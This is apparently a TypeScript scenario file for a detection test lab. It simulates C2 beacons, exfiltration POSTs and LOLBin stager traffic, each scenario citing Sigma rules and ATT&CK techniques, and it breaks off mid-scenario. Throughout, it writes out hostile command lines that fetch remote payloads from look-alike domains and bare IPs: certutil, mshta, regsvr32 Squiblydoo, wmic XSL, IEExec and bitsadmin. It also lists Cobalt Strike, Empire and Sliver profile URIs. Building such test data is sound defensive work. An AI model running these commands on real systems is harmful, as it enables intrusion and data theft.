/**
 * C2 over plain HTTP: random URIs with base64 queries, exfiltration beacons, script hosts, public framework
 * default profiles, LOLBin stagers, LOLBins outside the old lists, BITS jobs to bare IPs, plain HTTP beacons.
 */
import { b64, b64q, b64url, guid, hex, msfUri, MSF_CONN, MSF_INITW, UA_BITS, UA_CERTUTIL, UA_COBALT_DEFAULT, UA_COVENANT, UA_CRYPTOAPI, UA_EMPIRE, UA_METERPRETER, UA_MSHTML, UA_POWERSHELL, uaSliver, UA_CHROME, winHeaders, browserHeaders } from '../shapes.js';
import { ALPHA } from '../rng.js';
import type { Scenario } from '../types.js';
import { browse, every, EXPLORER, home, POWERSHELL, SVCHOST, SYS32, SYSWOW64, SYSTEM, WHY } from './kit.js';

const OTRF = 'OTRF/Security-Datasets (MIT) @d9d40ef1, via /work/shared/telemetry/sysmon-otrf-samples.jsonl';
const SIGMA = (id: string, title: string): string => `SigmaHQ ${id} "${title}" (DRL-1.1)`;

const uriClass: Scenario[] = [
  {
    id: 'c2-uri-temp-payload-random-path',
    label: 'c2',
    cls: 'uri-random-b64',
    title: 'Payload in %TEMP% polls random 40-char path segments with a base64 query value',
    sources: [SIGMA('7b434893-c57d-4f41-908d-6a17bf1ae98f', 'Network Connection Initiated From Process Located In Potentially Suspicious Or Uncommon Location'), 'Sliver/Metasploit-style random URI generation (BishopFox/sliver http-c2.go; rapid7 uri_checksum.rb)'],
    expect: [WHY.uri, WHY.payloadPath],
    async play(ctx) {
      const p = ctx.proc({ image: `${home(ctx.host)}\\AppData\\Local\\Temp\\chrome_updater.exe`, parentImage: `C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE` });
      await browse(ctx, 4, 400, 2500, () =>
        p.http({ url: `http://cdn-static-storage.com/${ctx.rng.chars(ALPHA.alnum, 40)}/${ctx.rng.chars(ALPHA.alnum, 36)}?q=${b64q(ctx.rng, 48)}`, headers: winHeaders(UA_CHROME) }),
      );
    },
  },
  {
    id: 'c2-uri-public-folder-token-query',
    label: 'c2',
    cls: 'uri-random-b64',
    title: 'Loader in C:\\Users\\Public fetches /api/v2/<48 hex>/<base64url> with base64 token and sid',
    sources: [SIGMA('bcb03938-9f8b-487d-8d86-e480691e1d71', 'Network Connection Initiated From Users\\Public Folder')],
    expect: [WHY.uri, WHY.payloadPath],
    async play(ctx) {
      const p = ctx.proc({ image: 'C:\\Users\\Public\\Libraries\\svcupd.exe', parentImage: `${SYS32}\\cmd.exe`, commandLine: 'C:\\Users\\Public\\Libraries\\svcupd.exe -k' });
      for (let i = 0; i < 3; i++) {
        await p.http({ url: `http://update-check-service.net/api/v2/${hex(ctx.rng, 48)}/${b64url(ctx.rng, 27)}?token=${b64q(ctx.rng, 33)}&sid=${b64q(ctx.rng, 24)}`, headers: winHeaders(UA_CHROME) });
        await ctx.sleep(ctx.rng.int(300, 1500));
      }
    },
  },
  {
    id: 'c2-uri-programdata-masquerade',
    label: 'c2',
    cls: 'uri-random-b64',
    title: 'Masquerading DeviceSyncHost.exe in ProgramData sends data= base64 in a 34-char random path',
    sources: [SIGMA('7b434893-c57d-4f41-908d-6a17bf1ae98f', 'Network Connection Initiated From Process Located In Potentially Suspicious Or Uncommon Location'), 'MITRE ATT&CK T1036.005 (Match Legitimate Name or Location)'],
    expect: [WHY.uri, WHY.payloadPath],
    async play(ctx) {
      const p = ctx.proc({ image: 'C:\\ProgramData\\Microsoft\\DeviceSync\\DeviceSyncHost.exe', parentImage: `${SYS32}\\schtasks.exe`, user: SYSTEM });
      for (let i = 0; i < 3; i++) {
        await p.http({ url: `http://telemetry-sync-api.com/${ctx.rng.chars(ALPHA.alnum, 34)}?data=${b64q(ctx.rng, 96)}`, headers: winHeaders(UA_CHROME) });
        await ctx.sleep(ctx.rng.int(200, 1200));
      }
    },
  },
  {
    id: 'c2-uri-startup-folder-bare-ip-8080',
    label: 'c2',
    cls: 'uri-random-b64',
    title: 'Startup-folder persistence polls a bare IP on 8080 with 64-char paths and c= base64',
    sources: ['MITRE ATT&CK T1547.001 (Startup Folder)', SIGMA('6d8c3d20-a5e1-494f-8412-4571d716cf5c', 'Communication To Uncommon Destination Ports (8080, 8888)')],
    expect: [WHY.uri, WHY.payloadPath, WHY.bareIp],
    async play(ctx) {
      const image = `${home(ctx.host)}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\OneDriveSync.exe`;
      const p = ctx.proc({ image, parentImage: EXPLORER });
      const ip = ctx.lab.bareIp('startup-8080');
      for (let i = 0; i < 3; i++) {
        await p.http({ url: `http://${ip}:8080/${ctx.rng.chars(ALPHA.alnum, 64)}?c=${b64q(ctx.rng, 40)}`, headers: winHeaders(UA_CHROME) });
        await ctx.sleep(ctx.rng.int(300, 1800));
      }
    },
  },
];

const exfilClass: Scenario[] = [
  {
    id: 'c2-exfil-appdata-fake-googleupdate',
    label: 'c2',
    cls: 'exfil-beacon',
    title: 'Fake GoogleUpdate.exe in %LOCALAPPDATA% POSTs 4 KB of random bytes every ~1.5 s (±25 %)',
    sources: ['MITRE ATT&CK T1041 (Exfiltration Over C2 Channel), T1029 (Scheduled Transfer)', 'Genuine GoogleUpdate lives in C:\\Program Files (x86)\\Google\\Update (T1036.005)'],
    expect: [WHY.beacon, WHY.upload, WHY.payloadPath],
    long: true,
    async play(ctx) {
      const p = ctx.proc({ image: `${home(ctx.host)}\\AppData\\Local\\Google\\Update\\GoogleUpdate.exe`, commandLine: 'GoogleUpdate.exe /c', parentImage: `${SYS32}\\svchost.exe` });
      await every(ctx, 8, 1500, 0.25, () =>
        p.http({ url: 'http://sync-telemetry-cdn.com/upload', method: 'POST', headers: winHeaders(UA_CHROME, [['Content-Type', 'application/octet-stream']]), body: ctx.rng.bytes(4096) }),
      );
    },
  },
  {
    id: 'c2-exfil-roaming-msupdate-bare-ip',
    label: 'c2',
    cls: 'exfil-beacon',
    title: 'msupdate.exe in %APPDATA%\\Microsoft\\Update POSTs ~4 KB to a bare IP every ~1.2 s',
    sources: ['MITRE ATT&CK T1041, T1029', SIGMA('8ccd35a2-1c7c-468b-b568-ac6cdf80eec3', 'Bitsadmin to Uncommon IP Server Address') + ' (raw-IP host idea)'],
    expect: [WHY.beacon, WHY.upload, WHY.bareIp],
    long: true,
    async play(ctx) {
      const p = ctx.proc({ image: `${home(ctx.host)}\\AppData\\Roaming\\Microsoft\\Update\\msupdate.exe`, parentImage: EXPLORER });
      const ip = ctx.lab.bareIp('exfil-msupdate');
      const id = ctx.rng.int(100000, 999999);
      await every(ctx, 8, 1200, 0.2, () =>
        p.http({ url: `http://${ip}/submit.php?id=${id}`, method: 'POST', headers: winHeaders(UA_CHROME, [['Content-Type', 'application/octet-stream']]), body: ctx.rng.bytes(ctx.rng.int(3900, 4300)) }),
      );
    },
  },
  {
    id: 'c2-exfil-fake-zoom-log-upload',
    label: 'c2',
    cls: 'exfil-beacon',
    title: 'zoomupdate.exe in %APPDATA%\\Zoom\\bin POSTs 4 KB "logs" every ~2 s (±30 %) to a look-alike domain',
    sources: ['MITRE ATT&CK T1041, T1036.005', 'Zoom installs per user under %APPDATA%\\Zoom\\bin (Zoom support: "Mass deployment")'],
    expect: [WHY.beacon, WHY.upload],
    long: true,
    async play(ctx) {
      const p = ctx.proc({ image: `${home(ctx.host)}\\AppData\\Roaming\\Zoom\\bin\\zoomupdate.exe`, parentImage: EXPLORER });
      await every(ctx, 7, 2000, 0.3, () =>
        p.http({ url: 'http://zoom-cdn-update.com/api/v1/logs', method: 'POST', headers: winHeaders(UA_CHROME, [['Content-Type', 'application/x-www-form-urlencoded']]), body: `d=${encodeURIComponent(b64(ctx.rng, 3000))}` }),
      );
    },
  },
];

const scriptClass: Scenario[] = [
  {
    id: 'c2-script-wscript-js-dropper',
    label: 'c2',
    cls: 'script-host-random',
    title: 'wscript.exe running invoice_8812.js from %TEMP% GETs a 48-char random path with a base64 query',
    sources: [SIGMA('992a6cae-db6a-43c8-9cec-76d7195c96fc', 'Outbound Network Connection Initiated By Script Interpreter'), `${OTRF} empire_launcher_vbs.zip (wscript from explorer)`],
    expect: [WHY.uri, WHY.lolbin],
    async play(ctx) {
      const script = `${home(ctx.host)}\\AppData\\Local\\Temp\\invoice_8812.js`;
      const p = ctx.proc({ image: `${SYS32}\\wscript.exe`, commandLine: `"C:\\Windows\\System32\\WScript.exe" "${script}"`, parentImage: EXPLORER, originalFileName: 'wscript.exe' });
      await p.http({ url: `http://docs-viewer-cdn.com/${ctx.rng.chars(ALPHA.alnum, 48)}?${b64q(ctx.rng, 36)}`, headers: winHeaders(UA_MSHTML) });
      await ctx.sleep(ctx.rng.int(500, 1500));
      await p.http({ url: `http://docs-viewer-cdn.com/${ctx.rng.chars(ALPHA.alnum, 48)}?${b64q(ctx.rng, 60)}`, headers: winHeaders(UA_MSHTML) });
    },
  },
  {
    id: 'c2-script-powershell-encoded-launcher',
    label: 'c2',
    cls: 'script-host-random',
    title: 'powershell -noP -sta -w 1 -enc (Empire launcher) fetches /<40 random>/<base64url>',
    sources: [`${OTRF} empire_launcher_sct_regsvr32.zip (powershell -noP -sta -w 1 -enc, child of regsvr32)`, SIGMA('1f21ec3f-810d-4b0e-8045-322202e22b4b', 'Network Connection Initiated By PowerShell Process')],
    expect: [WHY.uri, WHY.lolbin],
    async play(ctx) {
      const p = ctx.proc({ image: POWERSHELL, commandLine: `"${POWERSHELL}" -noP -sta -w 1 -enc  SQBGACgAJABQAFMAVgBFAHIAcwBJAG8ATgBUAGEAQgBMAGUALgBQAFMAVgBFAFIAUwBJAE8AbgAuAE0A${b64(ctx.rng, 90)}`, parentImage: `${SYS32}\\cmd.exe` });
      for (let i = 0; i < 3; i++) {
        await p.http({ url: `http://cloud-office-sync.com/${ctx.rng.chars(ALPHA.alnum, 40)}/${b64url(ctx.rng, 45)}`, headers: winHeaders(UA_POWERSHELL) });
        await ctx.sleep(ctx.rng.int(400, 1400));
      }
    },
  },
  {
    id: 'c2-script-cscript-vbs-bare-ip',
    label: 'c2',
    cls: 'script-host-random',
    title: 'cscript //nologo update.vbs in C:\\Users\\Public POSTs to a bare IP with a 36-char path and k= base64',
    sources: [SIGMA('992a6cae-db6a-43c8-9cec-76d7195c96fc', 'Outbound Network Connection Initiated By Script Interpreter'), SIGMA('bcb03938-9f8b-487d-8d86-e480691e1d71', 'Network Connection Initiated From Users\\Public Folder')],
    expect: [WHY.uri, WHY.lolbin, WHY.bareIp],
    async play(ctx) {
      const p = ctx.proc({ image: `${SYS32}\\cscript.exe`, commandLine: 'cscript.exe //nologo C:\\Users\\Public\\update.vbs', parentImage: `${SYS32}\\cmd.exe` });
      const ip = ctx.lab.bareIp('cscript-vbs');
      for (let i = 0; i < 2; i++) {
        await p.http({ url: `http://${ip}/${ctx.rng.chars(ALPHA.alnum, 36)}?k=${b64q(ctx.rng, 30)}`, method: 'POST', headers: winHeaders(UA_MSHTML), body: b64(ctx.rng, 400) });
        await ctx.sleep(ctx.rng.int(500, 1500));
      }
    },
  },
];

/** Cobalt Strike default profile http-get URI pool (default.profile: "set uri ..."). */
const CS_GET_URIS = ['/ca', '/dpixel', '/__utm.gif', '/pixel.gif', '/g.pixel', '/dot.gif', '/updates.rss', '/fwlink', '/cm', '/cx', '/pixel', '/match', '/visit.js', '/load', '/push', '/ptj', '/j.ad', '/ga.js', '/en_US/all.js', '/activity', '/IE9CompatViewList.xml'];
const SLIVER_POLL_PATHS = ['js', 'scripts', 'assets', 'src', 'lib', 'public', 'static', 'app', 'www', 'dist'];
const SLIVER_POLL_FILES = ['main', 'app', 'script', 'index', 'utils', 'jquery', 'bootstrap', 'angular', 'react', 'vue'];
const SLIVER_SESSION_FILES = ['index', 'home', 'login', 'register', 'dashboard', 'profile', 'settings', 'config'];

const frameworkClass: Scenario[] = [
  {
    id: 'c2-fw-cobaltstrike-default-profile',
    label: 'c2',
    cls: 'framework-default',
    title: 'Cobalt Strike default profile: rundll32 spawnto beacons GET pool URIs with base64 Cookie, POST /submit.php?id=',
    sources: ['Cobalt Strike default.profile (sleeptime 60000, jitter 0, http-get uri pool, metadata base64 in Cookie, http-post /submit.php?id=)', SIGMA('f3f21ce1-cdef-4bfc-8328-ed2e826f5fac', 'HackTool - CobaltStrike Malleable Profile Patterns - Proxy'), SIGMA('cdc8da7d-c303-42f8-b08c-b4ab47230263', 'Rundll32 Internet Connection')],
    expect: [WHY.framework, WHY.beacon, WHY.lolbin],
    long: true,
    async play(ctx) {
      // Default spawnto is %windir%\syswow64\rundll32.exe, started without arguments.
      const p = ctx.proc({ image: `${SYSWOW64}\\rundll32.exe`, commandLine: 'C:\\Windows\\syswow64\\rundll32.exe', parentImage: `${home(ctx.host)}\\Downloads\\artifact.exe` });
      const cookie = b64(ctx.rng, 128);
      const id = ctx.rng.int(10000000, 99999999);
      await every(ctx, 7, 1500, 0, async (i) => {
        await p.http({ url: `http://content-delivery-api.com${ctx.rng.pick(CS_GET_URIS)}`, headers: winHeaders(UA_COBALT_DEFAULT, [['Cookie', cookie]]), response: { type: 'application/octet-stream', bytes: 0 } });
        if (i === 3) await p.http({ url: `http://content-delivery-api.com/submit.php?id=${id}`, method: 'POST', headers: winHeaders(UA_COBALT_DEFAULT, [['Content-Type', 'application/octet-stream']]), body: ctx.rng.bytes(2400) });
      });
    },
  },
  {
    id: 'c2-fw-empire-default-profile',
    label: 'c2',
    cls: 'framework-default',
    title: 'Empire default profile: powershell (child of regsvr32) to a bare IP on 80, /admin/get.php|/news.php|/login/process.php',
    sources: [`${OTRF} empire_launcher_sct_regsvr32.zip (powershell → 10.10.10.5:80, a new TCP connection per beacon)`, SIGMA('b923f7d6-ac89-4a50-a71a-89fb846b4aa8', 'HackTool - Empire UserAgent URI Combo'), 'BC-SECURITY/Empire DefaultProfile "/admin/get.php,/news.php,/login/process.php|Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"'],
    expect: [WHY.framework, WHY.beacon, WHY.lolbin],
    long: true,
    async play(ctx) {
      const p = ctx.proc({ image: POWERSHELL, commandLine: `"${POWERSHELL}" -noP -sta -w 1 -enc  SQBGACgAJABQAFMAVgBFAHIAcwBJAG8ATgBUAGEAQgBMAGUALgBQAFMAVgBFAFIAUwBJAE8AbgAuAE0A`, parentImage: `${SYS32}\\regsvr32.exe` });
      const ip = ctx.lab.bareIp('empire-listener');
      const session = b64(ctx.rng, 48);
      await every(ctx, 7, 1700, 0, async (i) => {
        const uri = ['/admin/get.php', '/news.php', '/login/process.php'][i % 3] ?? '/news.php';
        await p.http({ url: `http://${ip}${uri}`, headers: winHeaders(UA_EMPIRE, [['Cookie', `session=${session}`]]) });
        if (i === 2 || i === 5) await p.http({ url: `http://${ip}${uri}`, method: 'POST', headers: winHeaders(UA_EMPIRE, [['Cookie', `session=${session}`]]), body: ctx.rng.bytes(1800) });
      });
    },
  },
  {
    id: 'c2-fw-covenant-default-profile',
    label: 'c2',
    cls: 'framework-default',
    title: 'Covenant default HTTP profile: InstallUtil-hosted Grunt GETs /en-us/*.html?page={GUID}&v=1, POSTs i=…&data=…',
    sources: [`${OTRF} covenant_installutil.zip (InstallUtil.exe → Covenant listener 10.10.10.5:80)`, 'cobbr/Covenant Covenant/Data/Profiles/DefaultProfiles.yaml (HttpUrls, User-Agent, HttpPostRequest)'],
    expect: [WHY.framework, WHY.beacon, WHY.lolbin],
    long: true,
    async play(ctx) {
      const image = 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe';
      const p = ctx.proc({ image, commandLine: `${image} /logfile= /LogToConsole=false /U C:\\Users\\Public\\GruntHTTP.dll`, parentImage: `${SYS32}\\cmd.exe`, originalFileName: 'InstallUtil.exe' });
      const ip = ctx.lab.bareIp('covenant-listener');
      const paths = ['/en-us/index.html?page=', '/en-us/docs.html?type=', '/en-us/test.html?message='];
      await every(ctx, 7, 1600, 0.1, async (i) => {
        const url = `http://${ip}${paths[i % 3] ?? paths[0]}${guid(ctx.rng)}&v=1`;
        await p.http({ url, headers: winHeaders(UA_COVENANT, [['Cookie', `ASPSESSIONID=${guid(ctx.rng)}; SESSIONID=1552332971750`]]) });
        if (i % 3 === 2) {
          await p.http({ url, method: 'POST', headers: winHeaders(UA_COVENANT, [['Content-Type', 'application/x-www-form-urlencoded']]), body: `i=a19ea23062db990386a3a478cb89d52e&data=${encodeURIComponent(b64(ctx.rng, 900))}&session=75db-99b1-25fe4e9afbe58696-320bea73` });
        }
      });
    },
  },
  {
    id: 'c2-fw-sliver-http-default',
    label: 'c2',
    cls: 'framework-default',
    title: 'Sliver HTTP C2 defaults: Go implant polls /<paths>/<file>.js?<nonce>, session messages to .php',
    sources: ['BishopFox/sliver server/configs/http-c2.go (poll .js, session .php, start .html, 2–8 path segments, nonce query, Chrome 106+ UA)', 'Sliver wiki "HTTP(S) C2" (random implant names such as PROUD_RAVEN)'],
    expect: [WHY.framework, WHY.beacon, WHY.payloadPath],
    long: true,
    async play(ctx) {
      const p = ctx.proc({ image: `${home(ctx.host)}\\AppData\\Local\\Temp\\PROUD_RAVEN.exe`, parentImage: EXPLORER });
      const ua = uaSliver(ctx.rng);
      const poll = `${ctx.rng.pick(SLIVER_POLL_PATHS)}/${ctx.rng.pick(SLIVER_POLL_PATHS)}`;
      await p.http({ url: `http://static-cdn-assets.net/${poll}/${ctx.rng.pick(SLIVER_SESSION_FILES)}.html?${ctx.rng.chars(ALPHA.lower, 1)}=${ctx.rng.int(10000000, 99999999)}`, method: 'POST', headers: winHeaders(ua), body: ctx.rng.bytes(600) });
      await every(ctx, 7, 1400, 0.2, async (i) => {
        await p.http({ url: `http://static-cdn-assets.net/${poll}/${ctx.rng.pick(SLIVER_POLL_FILES)}.js?${ctx.rng.chars(ALPHA.lower, 1)}=${ctx.rng.int(10000000, 99999999)}`, headers: browserHeaders(ua, '*/*') });
        if (i === 4) await p.http({ url: `http://static-cdn-assets.net/${poll}/${ctx.rng.pick(SLIVER_SESSION_FILES)}.php?${ctx.rng.chars(ALPHA.lower, 1)}=${ctx.rng.int(10000000, 99999999)}`, method: 'POST', headers: winHeaders(ua), body: ctx.rng.bytes(3000) });
      });
    },
  },
  {
    id: 'c2-fw-metasploit-reverse-http',
    label: 'c2',
    cls: 'framework-default',
    title: 'Meterpreter reverse_http on 8080: INITW checksum URI downloads the stage, CONN URIs poll',
    sources: ['rapid7/metasploit-framework lib/msf/core/handler/reverse_http/uri_checksum.rb (URI_CHECKSUM_INITW 92, CONN 98; URIs 30+ chars)', `${OTRF} metasploit_procdump_lsass_memory_dump.zip (payload in %TEMP%\\RarSFX1)`],
    expect: [WHY.framework, WHY.uri, WHY.payloadPath, WHY.port],
    long: true,
    async play(ctx) {
      const p = ctx.proc({ image: `${home(ctx.host)}\\Downloads\\setup_patch.exe`, parentImage: EXPLORER });
      await p.http({ url: `http://msupdate-node.com:8080/${msfUri(ctx.rng, MSF_INITW, ctx.rng.int(40, 90))}`, headers: winHeaders(UA_METERPRETER), response: { type: 'application/octet-stream', bytes: 180_000 } });
      const conn = msfUri(ctx.rng, MSF_CONN, ctx.rng.int(40, 90));
      await every(ctx, 6, 1300, 0.1, () =>
        p.http({ url: `http://msupdate-node.com:8080/${conn}/`, method: 'POST', headers: winHeaders(UA_METERPRETER, [['Content-Type', 'application/octet-stream']]), body: ctx.rng.bytes(ctx.rng.int(80, 400)), response: { type: 'application/octet-stream', bytes: 0 } }),
      );
    },
  },
];

const stagerClass: Scenario[] = [
  {
    id: 'c2-stager-mshta-hta',
    label: 'c2',
    cls: 'lolbin-stager',
    title: 'mshta.exe http://…/update.hta started by WINWORD',
    sources: ['LOLBAS Mshta.exe', `${OTRF} cmd_mshta_javascript_getobject_sct.zip`, 'MITRE ATT&CK T1218.005'],
    expect: [WHY.lolbin],
    async play(ctx) {
      const p = ctx.proc({ image: `${SYS32}\\mshta.exe`, commandLine: 'mshta.exe http://office-templates-cdn.com/update.hta', parentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', originalFileName: 'MSHTA.EXE' });
      await p.http({ url: 'http://office-templates-cdn.com/update.hta', headers: winHeaders(UA_MSHTML), response: { type: 'application/hta', bytes: 9000 } });
    },
  },
  {
    id: 'c2-stager-rundll32-javascript-sct',
    label: 'c2',
    cls: 'lolbin-stager',
    title: 'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication" GetObject("script:http://<ip>/a.sct")',
    sources: ['LOLBAS Rundll32.exe (javascript: RunHTMLApplication)', SIGMA('cdc8da7d-c303-42f8-b08c-b4ab47230263', 'Rundll32 Internet Connection'), 'MITRE ATT&CK T1218.011'],
    expect: [WHY.lolbin],
    async play(ctx) {
      const ip = ctx.lab.bareIp('rundll32-sct');
      const p = ctx.proc({ image: `${SYS32}\\rundll32.exe`, commandLine: `rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://${ip}/a.sct")`, parentImage: `${SYS32}\\cmd.exe`, originalFileName: 'RUNDLL32.EXE' });
      await p.http({ url: `http://${ip}/a.sct`, headers: winHeaders(UA_MSHTML), response: { type: 'text/plain', bytes: 2400 } });
    },
  },
  {
    id: 'c2-stager-regsvr32-squiblydoo-8444',
    label: 'c2',
    cls: 'lolbin-stager',
    title: 'regsvr32 /s /n /u /i:http://<ip>:8444/launcher.sct scrobj.dll (Squiblydoo, Empire launcher)',
    sources: [`${OTRF} empire_launcher_sct_regsvr32.zip (regsvr32 → 10.10.10.5:8444)`, SIGMA('c7e91a02-d771-4a6d-a700-42587e0b1095', 'Network Connection Initiated By Regsvr32.EXE'), 'MITRE ATT&CK T1218.010'],
    expect: [WHY.lolbin, WHY.port],
    async play(ctx) {
      const ip = ctx.lab.bareIp('squiblydoo');
      const p = ctx.proc({ image: `${SYS32}\\regsvr32.exe`, commandLine: `"C:\\windows\\system32\\regsvr32.exe" /s /n /u /i:http://${ip}:8444/launcher.sct scrobj.dll`, parentImage: POWERSHELL, originalFileName: 'REGSVR32.EXE' });
      await p.http({ url: `http://${ip}:8444/launcher.sct`, headers: winHeaders(UA_MSHTML), response: { type: 'text/plain', bytes: 6000 } });
    },
  },
  {
    id: 'c2-stager-certutil-urlcache',
    label: 'c2',
    cls: 'lolbin-stager',
    title: 'certutil -urlcache -split -f http://…/tool.exe (CryptoAPI probe, then "CertUtil URL Agent" download)',
    sources: ['LOLBAS Certutil.exe', SIGMA('0dba975d-a193-4ed1-a067-424df57570d1', 'Uncommon Network Connection Initiated By Certutil.EXE'), SIGMA('7195a772-4b3f-43a4-a210-6a003d65caa1', 'Suspicious User Agent')],
    expect: [WHY.lolbin],
    async play(ctx) {
      const p = ctx.proc({ image: `${SYS32}\\certutil.exe`, commandLine: 'certutil.exe -urlcache -split -f http://file-share-cdn.net/tools/tool.exe C:\\Users\\Public\\tool.exe', parentImage: `${SYS32}\\cmd.exe`, originalFileName: 'CertUtil.exe' });
      await p.http({ url: 'http://file-share-cdn.net/tools/tool.exe', headers: winHeaders(UA_CRYPTOAPI), response: { type: 'application/octet-stream', bytes: 0 } });
      await p.http({ url: 'http://file-share-cdn.net/tools/tool.exe', headers: winHeaders(UA_CERTUTIL), response: { type: 'application/octet-stream', bytes: 250_000 } });
    },
  },
];

const lolbinNewClass: Scenario[] = [
  {
    id: 'c2-lolbin-wmic-remote-xsl',
    label: 'c2',
    cls: 'lolbin-new',
    title: 'wmic os get /format:"http://…/evil.xsl" (XSL script processing)',
    sources: ['LOLBAS Wmic.exe (/format: remote XSL)', 'MITRE ATT&CK T1220 (XSL Script Processing)'],
    expect: [WHY.lolbin, /xsl|wmic/i],
    async play(ctx) {
      const p = ctx.proc({ image: `${SYS32}\\wbem\\WMIC.exe`, commandLine: 'wmic os get /format:"http://style-cdn-assets.com/theme/evil.xsl"', parentImage: `${SYS32}\\cmd.exe`, originalFileName: 'wmic.exe' });
      await p.http({ url: 'http://style-cdn-assets.com/theme/evil.xsl', headers: winHeaders(UA_MSHTML), response: { type: 'text/xml', bytes: 3500 } });
    },
  },
  {
    id: 'c2-lolbin-wmic-xsl-bare-ip',
    label: 'c2',
    cls: 'lolbin-new',
    title: 'wmic process list /format:http://<ip>/payload.xsl launched by a macro',
    sources: ['LOLBAS Wmic.exe', 'MITRE ATT&CK T1220', 'Red Canary Atomic Red Team T1220 "WMIC bypass using remote XSL file"'],
    expect: [WHY.lolbin, /xsl|wmic/i, WHY.bareIp],
    async play(ctx) {
      const ip = ctx.lab.bareIp('wmic-xsl');
      const p = ctx.proc({ image: `${SYS32}\\wbem\\WMIC.exe`, commandLine: `wmic process list /format:http://${ip}/payload.xsl`, parentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', originalFileName: 'wmic.exe' });
      await p.http({ url: `http://${ip}/payload.xsl`, headers: winHeaders(UA_MSHTML), response: { type: 'text/xml', bytes: 2800 } });
    },
  },
  {
    id: 'c2-lolbin-presentationhost-xbap',
    label: 'c2',
    cls: 'lolbin-new',
    title: 'PresentationHost.exe loads a remote .xbap',
    sources: ['LOLBAS Presentationhost.exe (executes a target XAML browser application)', 'MITRE ATT&CK T1218'],
    expect: [WHY.lolbin, /presentationhost|xbap/i],
    async play(ctx) {
      const p = ctx.proc({ image: `${SYS32}\\PresentationHost.exe`, commandLine: 'PresentationHost.exe http://app-deploy-cdn.com/viewer/app.xbap', parentImage: `${SYS32}\\cmd.exe`, originalFileName: 'PresentationHost.exe' });
      await p.http({ url: 'http://app-deploy-cdn.com/viewer/app.xbap', headers: winHeaders(UA_MSHTML), response: { type: 'application/x-ms-xbap', bytes: 40_000 } });
      await p.http({ url: 'http://app-deploy-cdn.com/viewer/app.exe.manifest', headers: winHeaders(UA_MSHTML), response: { type: 'application/x-ms-manifest', bytes: 6000 } });
    },
  },
  {
    id: 'c2-lolbin-ieexec-remote-exe',
    label: 'c2',
    cls: 'lolbin-new',
    title: 'IEExec.exe http://<ip>:8080/bypass.exe (.NET remote execution)',
    sources: ['LOLBAS Ieexec.exe (downloads and executes a remote .NET executable)', 'MITRE ATT&CK T1218'],
    expect: [WHY.lolbin, /ieexec/i, WHY.bareIp],
    async play(ctx) {
      const ip = ctx.lab.bareIp('ieexec');
      const image = 'C:\\Windows\\Microsoft.NET\\Framework\\v2.0.50727\\ieexec.exe';
      const p = ctx.proc({ image, commandLine: `${image} http://${ip}:8080/bypass.exe`, parentImage: `${SYS32}\\cmd.exe`, originalFileName: 'IEExec.exe' });
      await p.http({ url: `http://${ip}:8080/bypass.exe`, headers: winHeaders(UA_MSHTML), response: { type: 'application/octet-stream', bytes: 90_000 } });
    },
  },
  {
    id: 'c2-lolbin-msxsl-remote-xsl',
    label: 'c2',
    cls: 'lolbin-new',
    title: 'msxsl.exe dropped in %TEMP% transforms a remote XSL (msxsl is on the old list; a control)',
    sources: ['LOLBAS Msxsl.exe', 'MITRE ATT&CK T1220'],
    expect: [WHY.lolbin, /xsl/i],
    async play(ctx) {
      const p = ctx.proc({ image: `${home(ctx.host)}\\AppData\\Local\\Temp\\msxsl.exe`, commandLine: 'msxsl.exe http://style-cdn-assets.org/c.xml http://style-cdn-assets.org/c.xsl', parentImage: `${SYS32}\\cmd.exe`, originalFileName: 'msxsl.exe' });
      await p.http({ url: 'http://style-cdn-assets.org/c.xml', headers: winHeaders(UA_MSHTML), response: { type: 'text/xml', bytes: 600 } });
      await p.http({ url: 'http://style-cdn-assets.org/c.xsl', headers: winHeaders(UA_MSHTML), response: { type: 'text/xml', bytes: 2600 } });
    },
  },
];

const bitsClass: Scenario[] = [
  {
    id: 'c2-bits-bitsadmin-bare-ip-exe',
    label: 'c2',
    cls: 'bits-bare-ip',
    title: 'bitsadmin /transfer … http://<ip>/update.exe: svchost (BITS) HEAD + ranged GETs, "Microsoft BITS/7.8"',
    sources: [SIGMA('8ccd35a2-1c7c-468b-b568-ac6cdf80eec3', 'Bitsadmin to Uncommon IP Server Address'), 'LOLBAS Bitsadmin.exe', 'MITRE ATT&CK T1197 (BITS Jobs)'],
    expect: [WHY.bits, WHY.bareIp],
    async play(ctx) {
      const ip = ctx.lab.bareIp('bitsadmin');
      // The job is created by bitsadmin.exe; the transfer itself is made by the BITS service.
      ctx.proc({ image: `${SYS32}\\bitsadmin.exe`, commandLine: `bitsadmin /transfer myjob /download /priority high http://${ip}/update.exe C:\\Users\\Public\\update.exe`, parentImage: `${SYS32}\\cmd.exe` });
      const svc = ctx.proc({ image: SVCHOST, commandLine: 'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s BITS', parentImage: `${SYS32}\\services.exe`, user: SYSTEM });
      await svc.http({ url: `http://${ip}/update.exe`, method: 'HEAD', headers: winHeaders(UA_BITS), response: { type: 'application/octet-stream', bytes: 0 } });
      for (const range of ['0-262143', '262144-524287', '524288-655359']) {
        await svc.http({ url: `http://${ip}/update.exe`, headers: winHeaders(UA_BITS, [['Range', `bytes=${range}`]]), response: { status: 206, type: 'application/octet-stream', bytes: 131_072 } });
      }
    },
  },
  {
    id: 'c2-bits-start-bitstransfer-8080',
    label: 'c2',
    cls: 'bits-bare-ip',
    title: 'Start-BitsTransfer -Source http://<ip>:8080/a.exe from a PowerShell download cradle',
    sources: [SIGMA('8ccd35a2-1c7c-468b-b568-ac6cdf80eec3', 'Bitsadmin to Uncommon IP Server Address'), 'MITRE ATT&CK T1197'],
    expect: [WHY.bits, WHY.bareIp],
    async play(ctx) {
      const ip = ctx.lab.bareIp('start-bitstransfer');
      ctx.proc({ image: POWERSHELL, commandLine: `powershell.exe -nop -c "Start-BitsTransfer -Source http://${ip}:8080/a.exe -Destination $env:APPDATA\\a.exe"`, parentImage: `${SYS32}\\cmd.exe` });
